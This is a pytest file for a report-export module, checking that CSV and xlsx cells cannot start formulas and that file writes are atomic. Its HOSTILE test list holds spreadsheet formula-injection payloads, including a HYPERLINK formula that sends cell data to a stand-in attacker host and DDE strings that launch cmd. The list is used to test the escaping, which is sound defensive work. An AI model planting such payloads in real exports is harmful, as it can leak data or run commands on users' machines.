"""Export files: formula injection neutralised in CSV and xlsx, whole-or-nothing writes."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from review.errors import InputError
from review.services.table_files import (
    Table,
    encode,
    neutralise,
    to_csv,
    to_json,
    to_workbook,
    to_xlsx,
    write_atomic,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "=cmd|' /C notepad'!'A1'",
]
HARMLESS = ["Meeting rooms", "a=b", "1-2", "user@city.gov", "", "Ñandú 🦤"]


def table() -> Table:
    rows = [(text, 7, Decimal("12.50"), dt.date(2027, 1, 2)) for text in HOSTILE + HARMLESS]
    return Table("Hostile: [list]", ("=Text", "Count", "Cost", "On"), rows, money_columns=("Cost",))


@pytest.mark.parametrize("text", HOSTILE)
def test_text_a_spreadsheet_would_run_gets_an_apostrophe(text: str) -> None:
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_unchanged(text: str) -> None:
    assert neutralise(text) == text


def test_csv_cells_never_begin_a_formula() -> None:
    data = to_csv(table())
    assert data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0] == ["'=Text", "Count", "Cost", "On"]
    cells = [r[0] for r in rows[1:]]
    assert cells[: len(HOSTILE)] == ["'" + t for t in HOSTILE]
    assert cells[len(HOSTILE) :] == HARMLESS
    for row in rows[1:]:
        assert not row[0].startswith(("=", "+", "-", "@", "\t", "\r"))
        assert row[1:] == ["7", "12.50", "2027-01-02"]


def test_xlsx_cells_are_text_never_formulas() -> None:
    book = load_workbook(io.BytesIO(to_xlsx(table())))
    sheet = book.active
    assert sheet is not None
    assert sheet.title == "Hostile   list"
    assert sheet["A1"].value == "'=Text"
    for row in sheet.iter_rows(min_row=2):
        assert row[0].value is None or row[0].data_type in ("s", "inlineStr")
        assert not str(row[0].value or "").startswith(("=", "+", "-", "@", "\t", "\r"))
        assert row[1].value == 7 and row[2].value == 12.5
        assert row[2].number_format == "#,##0.00"
    texts = [sheet.cell(row=r, column=1).value for r in range(2, 2 + len(HOSTILE))]
    assert texts == ["'" + t for t in HOSTILE]
    # nothing anywhere in the workbook is a formula
    assert all(c.data_type != "f" for r in sheet.iter_rows() for c in r)


def test_xlsx_survives_control_characters_and_json_keeps_the_text() -> None:
    nasty = Table("T", ("A",), [("bell\x07 and nul\x00",)])
    sheet = load_workbook(io.BytesIO(to_xlsx(nasty))).active
    assert sheet is not None and sheet["A2"].value == "bell\ufffd and nul\ufffd"
    body = json.loads(to_json(table()))
    assert body["rows"][0]["=Text"] == HOSTILE[0]  # JSON is data, not a spreadsheet
    assert body["rows"][0]["On"] == "2027-01-02"


def test_totals_rows_are_bold_and_sheets_follow_the_tables() -> None:
    one = Table("One", ("A", "B"), [("x", 1)], [("Total", 1)])
    two = Table("Two", ("C",), [("y",)])
    book = load_workbook(io.BytesIO(to_workbook([one, two])))
    assert book.sheetnames == ["One", "Two"]
    assert book["One"]["A3"].value == "Total" and book["One"]["A3"].font.b


def test_an_unknown_format_names_the_option() -> None:
    with pytest.raises(InputError, match="--format: 'pdf'"):
        encode(table(), "pdf")


def test_write_is_whole_or_nothing(tmp_path: Path) -> None:
    target = tmp_path / "out.csv"
    target.write_bytes(b"old")
    write_atomic(target, b"new")
    assert target.read_bytes() == b"new"
    with pytest.raises(InputError, match="does not exist"):
        write_atomic(tmp_path / "missing" / "out.csv", b"x")
    with pytest.raises(InputError, match="is a directory"):
        write_atomic(tmp_path, b"x")


def test_an_unwritable_directory_is_a_clear_message_and_leaves_nothing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    locked = tmp_path / "locked"
    locked.mkdir()
    locked.chmod(0o500)
    if os.geteuid() == 0:  # root writes anywhere: refuse as the kernel would

        def refuse(**_: object) -> None:
            raise PermissionError(13, "Permission denied")

        monkeypatch.setattr("review.services.table_files.tempfile.mkstemp", refuse)
    try:
        with pytest.raises(InputError, match=r"--out: cannot write in .*Permission denied"):
            write_atomic(locked / "out.xlsx", b"x")
        assert list(locked.iterdir()) == []
    finally:
        locked.chmod(0o700)


def test_a_failed_write_leaves_the_old_file_and_no_temporary(tmp_path: Path) -> None:
    target = tmp_path / "plan.xlsx"
    target.write_bytes(b"old")

    class Broken(list[bytes]):
        def __iter__(self):
            yield b"half"
            raise OSError(28, "No space left on device")

    with pytest.raises(InputError, match="No space left"):
        write_atomic(target, Broken())
    assert target.read_bytes() == b"old"
    assert [p.name for p in tmp_path.iterdir()] == ["plan.xlsx"]
